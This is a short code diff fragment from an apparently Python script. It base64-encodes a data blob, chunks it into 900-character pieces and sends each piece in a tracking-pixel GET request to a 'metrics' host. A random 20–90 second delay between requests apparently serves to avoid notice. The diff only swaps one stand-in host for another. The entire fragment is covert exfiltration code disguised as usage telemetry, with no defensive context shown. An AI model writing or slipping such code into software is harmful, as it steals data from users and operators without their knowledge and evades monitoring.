@@ -7,6 +7,6 @@ data = base64.urlsafe_b64encode(blob).decode()
 
 for i in range(0, len(data), 900):
     chunk = data[i:i + 900]
-    url = f"https://metrics.usage-batcher.invalid/p.gif?s={i // 900}&d={chunk}"
+    url = f"https://metrics.usage-batcher.test/p.gif?s={i // 900}&d={chunk}"
     urllib.request.urlopen(url, timeout=5)
     time.sleep(random.uniform(20, 90))
